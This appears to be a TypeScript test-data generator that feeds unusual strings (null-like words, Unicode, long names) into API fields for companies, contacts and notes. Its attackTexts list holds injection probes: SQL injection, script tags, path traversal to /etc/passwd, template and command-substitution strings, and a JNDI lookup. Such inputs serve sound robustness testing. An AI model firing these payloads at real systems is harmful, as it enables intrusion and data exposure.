// Texts that software tends to change although no sentence allows it: each is whole, lawful and its own normal form.
import { type Call, isObject, type JsonObject, type OperationId, type Random } from '../../lib/index.ts';

/** Taken for no text at all; the first are names that people have. */
export const nulls = ['Null', 'NULL', 'null'] as const;
const nothings: readonly string[] = [...nulls, 'undefined', 'None', 'NaN', 'false', '0', '[]'];
/** Taken for numbers, dates, formulas, or whatever stands alone. */
const others: readonly string[] = [
  ...['007', '12345', '12.50', '1e3', '-1', '12/31', 'true', 'constructor'],
  ...['=1+1', '@home', 'x', 'ALL CAPITALS', 'lower case only', '"all of it quoted"'],
];
/** Taken for something else where they are all of a text. */
const wholes = [...nothings, ...others];

/** What stands in real names, many of its classes at once. */
export const everyClass = `O'Neill "Süd" & Söhne C:\\d 75% a+b $& {x}; <i> 資本 🏦`;

const parts = [
  ...['1,234.50', '@SUM(A1)', '$&', '$1', '%41', '%s', '100%', '\\u0041', '\\n', 'C:\\Temp', "''", '"quoted"', "it's"],
  ...['<b>bold</b>', '&amp;', '{{7*7}}', `\${name}`, '../..', 'a+b', '#1', 'a;b', "Robert'); --", 'two  spaces'],
  ...['McDONALD de la CRUZ', 'https://www.example.com/?a=1&b=%2F', 'https://intranet.example.com:8443/x#top'],
  ...['x'.repeat(64), 'y'.repeat(128)],
];

const foreign = [
  // Combining marks without a precomposed form, marks of direction, joiners, and letters that change when folded.
  ...[
    'q\u0303 m\u0302',
    '\u200fשלום (1)\u200e',
    '\u{1f469}\u{200d}\u{1f4bc} 👍🏽',
    'Straße',
    'İstanbul ıçin',
    'ﬁnance ½ ①',
  ],
  ...['𝔘𝔫𝔦', 'Ǆ ǅ ǆ', '日本語 ﾃｽﾄ', 'مرحبا ١٢٣', 'हिन्दी', '“quoted” – ‘it’s’', 'é'.repeat(32), '資'.repeat(43)],
];

/** Taken for an attack by filters, and ordinary text of a note. */
export const attackTexts = [
  ...['Select the best offer from the list', "' OR 1=1 --", 'Drop the table; update the seating', '1 UNION SELECT 2'],
  ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:void(0)', '../../etc/passwd'],
  ...['{{7*7}}', '<%= 7*7 %>', '$(id)', '`id`', '| cat notes', `\${jndi:ldap://covenant.invalid}`],
] as const;

/** A text that is taken for something else where it stands alone. */
export const wholeText = (random: Random): string => wholeTexts(random)[0] ?? '0';

/** All of these, in an order of the seed's. */
export const wholeTexts = (random: Random): readonly string[] => random.shuffled(wholes);

/** The same for notes that need no name, after the one that most languages take for nothing. */
export const noteTexts = (random: Random): readonly [string, ...string[]] => [
  '0',
  ...wholeTexts(random).filter((one) => one !== '0'),
];

/** So many different texts in ASCII. */
export const trickyTexts = (random: Random, count: number): readonly string[] =>
  random.shuffled([...wholes, ...parts]).slice(0, count);

/** Members that need not be there, and hold any text. */
export const freeTexts = {
  company: ['address', 'city'],
  contact: ['first_name', 'title', 'department', 'address', 'address2', 'city'],
} as const;
const optional: { readonly [Id in OperationId]?: readonly string[] } = {
  'POST /companies': freeTexts.company,
  'POST /contacts': freeTexts.contact,
};

const required: { readonly [Id in OperationId]?: readonly string[] } = {
  'POST /companies': ['name', 'company_type'],
  'POST /contacts': ['contact_type', 'company_id'],
};

const onlyOf = (body: JsonObject, names: readonly string[]): JsonObject =>
  Object.fromEntries(names.flatMap((name) => (name in body ? [[name, body[name]]] : [])));

/**
 * A creation with such texts in each text that it need not have, or in one of three with no member that it need not have;
 * and notes of nothing else: for writes that are refused.
 */
export function trickyCall(operation: OperationId, call: Call, random: Random): Call {
  const { body } = call;
  const needed = required[operation];
  if (isObject(body) && needed && random.int(1, 3) === 1) return { ...call, body: onlyOf(body, needed), exactly: true };
  const names = operation.endsWith('/notes') || operation.endsWith('{note_id}') ? ['text'] : optional[operation];
  if (!isObject(body) || names === undefined) return call;
  const texts = trickyTexts(random, names.length);
  return {
    ...call,
    body: { ...Object.fromEntries(names.map((name, index) => [name, texts[index]])), ...ownOf(body, names) },
  };
}

/** What is not only a text of any kind. */
const ownOf = (body: JsonObject, names: readonly string[]): JsonObject =>
  Object.fromEntries(Object.entries(body).filter(([name]) => !names.includes(name)));

/** So many texts in other scripts. */
export const foreignTexts = (random: Random, count: number): readonly string[] =>
  random.shuffled(foreign).slice(0, count);

/** What need not be taken in a text of one line: for what is refused whatever stands in it. */
const unusual = ['first\nsecond', 'a\r\nb', 'one\ttwo', '', null] as const;

/** A text of any class, alone or with others, or none, beside something that is refused anyway. */
export function anyText(random: Random): string | null {
  const lot = random.int(1, 6);
  if (lot <= 2) return wholeText(random);
  if (lot === 3) return random.pick(unusual);
  if (lot === 4) return longText(random);
  return [everyClass, ...trickyTexts(random, lot), ...foreignTexts(random, 2)]
    .filter((one) => one.length < 60)
    .join(' ');
}

/** Of 255 characters, as many as a name may have. */
export const longText = (random: Random): string =>
  `${random.pick(['n', 'é', '資', 'Loan '])}`.repeat(255).slice(0, 254).concat('z');

/**
 * Texts of fields, record after record: of every three records a field has one that is taken for no text, one that is
 * taken for something else, and one with several such parts.
 */
export function dealtTexts(random: Random): (count: number) => readonly string[] {
  const classes = [nothings, others, fives(random.shuffled(parts))].map((one) => endless(random.shuffled(one)));
  let records = random.int(0, 2);
  return (count) => {
    records += 1;
    return Array.from({ length: count }, (_, place) => classes[(records + place) % classes.length]?.() ?? '0');
  };
}

/** One after the other, and from the first again. */
function endless(texts: readonly string[]): () => string | undefined {
  let next = 0;
  return () => texts[next++ % texts.length];
}

/** Five in one. */
const fives = (texts: readonly string[]): readonly string[] =>
  texts.flatMap((_, place) => (place % 5 === 0 ? [texts.slice(place, place + 5).join(' / ')] : []));
